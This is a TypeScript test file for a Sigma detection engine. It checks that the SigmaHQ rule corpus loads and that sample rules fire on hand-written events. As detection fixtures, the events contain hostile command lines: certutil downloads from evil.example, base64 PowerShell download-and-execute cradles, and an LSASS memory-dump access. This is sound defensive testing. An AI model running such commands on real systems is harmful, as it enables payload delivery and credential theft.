/**
 * The SigmaHQ rule corpus (read-only, see test/setup/sigma-corpus.ts): nearly every rule must load,
 * every rejection must say why and where, and a sample of real rules must fire on the activity they describe.
 */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { SIGMA_DIR as SIGMA } from '../../../../test/setup/sigma-corpus.ts';
import { createEngine, type Engine, type TextSource } from '../engine.ts';
import type { SocleEvent } from '../event.ts';
import { formatLoadError } from './errors.ts';

const available = existsSync(SIGMA) && readdirSync(SIGMA).some((d) => d.startsWith('rules'));
if (!available) console.warn(`SigmaHQ corpus not found at ${SIGMA}: corpus conformance tests are skipped`);

/**
 * Loaded share of the corpus; a drop below it is a regression. When these tests were written 3778 of 3780 rules
 * loaded: the two rejected ones use a placeholder (%known_cdcs%) outside rules-placeholder/ that is not configured.
 */
const MIN_LOADED_SHARE = 0.995;

/** Example values an organisation would configure for the placeholders the rules-placeholder folder uses. */
const PLACEHOLDERS: Record<string, string[]> = {
  Administrators: ['admin', 'adm_*'],
  Admins_Workstations: ['ADMWS-*'],
  ApprovedUserUpn: ['*@example.com'],
  Approved_Inviters: ['it-admin@example.com'],
  'DC-MACHINE-NAME': ['DC01$'],
  DomainControllers: ['DC01', 'DC02'],
  HomeTenantID: ['00000000-0000-0000-0000-000000000001'],
  Important_AppIds: ['00000003-0000-0000-c000-000000000000'],
  KNOWN_LOCATION: ['FR'],
  Known_Location: ['FR'],
  Legitimate_Countries: ['France'],
  Legitimate_IP_Ranges: ['192.0.2.*'],
  ServerSystems: ['SRV-*'],
  UnApprovedDevice: ['unknown'],
  UnApprovedIp: ['198.51.100.*'],
  UnLegitCountries: ['XX'],
  Workstations: ['WS-*'],
  dc_ip_addresses: ['10.0.0.10', '10.0.0.11'],
  dc_machine_accounts: ['DC01$', 'DC02$'],
  domain_controller_hostnames: ['dc01.example.com'],
  internal_domains: ['*.example.com'],
  legit_ips: ['10.0.0.5'],
  legtimate_identifiers: ['example.com'],
  userdomain: ['EXAMPLE'],
};

function ruleFiles(): string[] {
  const out: string[] = [];
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const path = join(dir, entry.name);
      if (entry.isDirectory()) walk(path);
      else if (/\.ya?ml$/.test(entry.name)) out.push(path);
    }
  };
  for (const d of readdirSync(SIGMA).filter((d) => d.startsWith('rules')).sort()) walk(join(SIGMA, d));
  return out.sort();
}

let corpus: { engine: Engine; sources: TextSource[] } | undefined;
function loadCorpus() {
  if (!corpus) {
    const sources = ruleFiles().map((path) => ({ text: readFileSync(path, 'utf8'), file: relative(SIGMA, path) }));
    corpus = { engine: createEngine({ rules: sources, placeholders: PLACEHOLDERS }), sources };
  }
  return corpus;
}

describe.skipIf(!available)('SigmaHQ corpus', () => {
  it(`loads at least ${MIN_LOADED_SHARE * 100} % of the rules, and every rejection names a reason and a construct`, () => {
    const { engine, sources } = loadCorpus();
    const total = engine.loaded.length + engine.rejected.length;
    expect(total).toBeGreaterThanOrEqual(sources.length);
    const share = engine.loaded.length / total;
    const report = engine.rejected.map(formatLoadError).join('\n');
    expect(share, `loaded ${engine.loaded.length} of ${total}; rejected:\n${report}`).toBeGreaterThanOrEqual(MIN_LOADED_SHARE);
    for (const r of engine.rejected) {
      expect(r.reason, formatLoadError(r)).toMatch(/\w/);
      expect(r.construct, formatLoadError(r)).toMatch(/\w/);
      expect(r.file, formatLoadError(r)).toMatch(/^rules/);
    }
  }, 120_000);

  it('loads every placeholder rule with the example placeholder values', () => {
    const { engine } = loadCorpus();
    const placeholderRejections = engine.rejected.filter((r) => r.file?.startsWith('rules-placeholder/'));
    expect(placeholderRejections.map(formatLoadError)).toEqual([]);
  }, 120_000);
});

/** Real SigmaHQ rules, loaded from the corpus one at a time, against hand-written events. */
const SAMPLES: Array<{ file: string; positive: SocleEvent[]; negative: SocleEvent[] }> = [
  {
    file: 'rules/windows/process_creation/proc_creation_win_whoami_all_execution.yml',
    positive: [
      { Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami -all' },
      { Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'WHOAMI /ALL' },
      { OriginalFileName: 'whoami.exe', Image: 'C:\\Users\\Public\\w.exe', CommandLine: 'w.exe \u2014all' },
    ],
    negative: [
      { Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami' },
      { Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami /groups' },
      { Image: 'C:\\Windows\\System32\\hostname.exe', CommandLine: 'hostname -all' },
    ],
  },
  {
    file: 'rules/windows/process_creation/proc_creation_win_certutil_decode.yml',
    positive: [
      { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -decode in.b64 out.exe' },
      { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil /decodehex in.hex out.exe' },
    ],
    negative: [{ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -encode out.exe in.b64' }],
  },
  {
    file: 'rules/windows/process_creation/proc_creation_win_powershell_base64_iex.yml',
    positive: [
      { CommandLine: `powershell -enc ${btoa("IEX (New-Object Net.WebClient).DownloadString('http://x')")}` },
      { CommandLine: `powershell -enc ${btoa("$a=1;IEX (New-Object Net.WebClient).DownloadString('http://x')")}` },
      { CommandLine: `powershell -enc ${btoa("$ab=1;iex ([Text.Encoding]::UTF8.GetString($b))")}` },
    ],
    negative: [{ CommandLine: `powershell -enc ${btoa('Get-ChildItem C:\\')}` }],
  },
  {
    file: 'rules/windows/process_creation/proc_creation_win_certutil_download.yml',
    positive: [
      { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil.exe -urlcache -split -f http://evil.example/a.exe a.exe' },
      { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil /urlcache /f http://evil.example/a.exe' },
      { OriginalFileName: 'CertUtil.exe', Image: 'C:\\tmp\\cu.exe', CommandLine: 'cu.exe \u2013verifyctl \u2013f http://evil.example/x' },
    ],
    negative: [
      { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache' },
      { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -hashfile a.exe SHA256' },
    ],
  },
  {
    file: 'rules/windows/process_creation/proc_creation_win_powershell_base64_invoke.yml',
    positive: [
      {
        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        CommandLine: `powershell.exe -enc ${btoa([...'Invoke-Expression (New-Object Net.WebClient).DownloadString("http://x")'].map((c) => c + '\0').join(''))}`,
      },
    ],
    negative: [
      {
        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        CommandLine: `powershell.exe -enc ${btoa([...'Get-Date'].map((c) => c + '\0').join(''))}`,
      },
    ],
  },
  {
    file: 'rules/windows/process_access/proc_access_win_lsass_memdump.yml',
    positive: [
      { TargetImage: 'C:\\Windows\\System32\\lsass.exe', SourceImage: 'C:\\Users\\Public\\procdump64.exe', GrantedAccess: '0x1fffff', CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d1f4|C:\\Windows\\System32\\dbghelp.dll+1f2e' },
    ],
    negative: [
      { TargetImage: 'C:\\Windows\\System32\\lsass.exe', SourceImage: 'C:\\Windows\\System32\\taskmgr.exe', GrantedAccess: '0x1000', CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d1f4' },
    ],
  },
  {
    file: 'rules/windows/file/file_delete/file_delete_win_delete_own_image.yml',
    positive: [{ Image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\drop.exe', TargetFilename: 'c:\\users\\bob\\appdata\\local\\temp\\DROP.EXE' }],
    negative: [
      { Image: 'C:\\Windows\\explorer.exe', TargetFilename: 'C:\\Users\\bob\\Desktop\\a.txt' },
      { Image: 'C:\\Windows\\explorer.exe' },
    ],
  },
  {
    file: 'rules/web/proxy_generic/proxy_webdav_external_execution.yml',
    positive: [
      { 'c-useragent': 'Microsoft-WebDAV-MiniRedir/10.0.19045', 'cs-method': 'GET', 'c-uri': 'http://203.0.113.7/payload.exe', dst_ip: '203.0.113.7' },
      { 'c-useragent': 'Microsoft-WebDAV-MiniRedir/10.0.19045', 'cs-method': 'GET', 'c-uri': '/x.ps1', dst_ip: '2001:db8::7' },
    ],
    negative: [
      { 'c-useragent': 'Microsoft-WebDAV-MiniRedir/10.0.19045', 'cs-method': 'GET', 'c-uri': 'http://10.1.2.3/payload.exe', dst_ip: '10.1.2.3' },
      { 'c-useragent': 'Microsoft-WebDAV-MiniRedir/10.0.19045', 'cs-method': 'GET', 'c-uri': '/x.ps1', dst_ip: 'fd12:3456::1' },
      { 'c-useragent': 'Microsoft-WebDAV-MiniRedir/10.0.19045', 'cs-method': 'GET', 'c-uri': '/x.ps1', dst_ip: '::1' },
      { 'c-useragent': 'Mozilla/5.0', 'cs-method': 'GET', 'c-uri': 'http://203.0.113.7/payload.exe', dst_ip: '203.0.113.7' },
    ],
  },
];

function engineForRule(file: string): Engine {
  const text = readFileSync(join(SIGMA, file), 'utf8');
  const engine = createEngine({ rules: [{ text, file }] });
  expect(engine.rejected.map(formatLoadError)).toEqual([]);
  expect(engine.loaded).toHaveLength(1);
  return engine;
}

describe.skipIf(!available)('real SigmaHQ rules fire on the activity they describe', () => {
  it.each(SAMPLES.filter((s) => s.positive.length || s.negative.length))('$file', ({ file, positive, negative }) => {
    if (!existsSync(join(SIGMA, file))) return;
    const engine = engineForRule(file);
    for (const event of positive) expect(engine.process(event), JSON.stringify(event)).toHaveLength(1);
    for (const event of negative) expect(engine.process(event), JSON.stringify(event)).toHaveLength(0);
  });

  it('the Sigma specification filter example loads and applies to the rule it names', () => {
    const filter = readFileSync(join(SIGMA, 'spec/examples/filter/filter_1.yml'), 'utf8');
    const rule = `title: Rar
id: 6f3e2987-db24-4c78-a860-b4f4095a7095
logsource: {category: process_creation, product: windows}
detection:
  sel:
    Image|endswith: '\\rar.exe'
  condition: sel
`;
    const engine = createEngine({ rules: [{ text: rule }, { text: filter, file: 'filter_1.yml' }] });
    expect(engine.rejected).toEqual([]);
    // The example's condition is `selection`: pySigma ANDs it, so the rule only fires for adm_ users.
    expect(engine.process({ Image: 'C:\\rar.exe', User: 'adm_x' })).toHaveLength(1);
    expect(engine.process({ Image: 'C:\\rar.exe', User: 'bob' })).toHaveLength(0);
  });
});
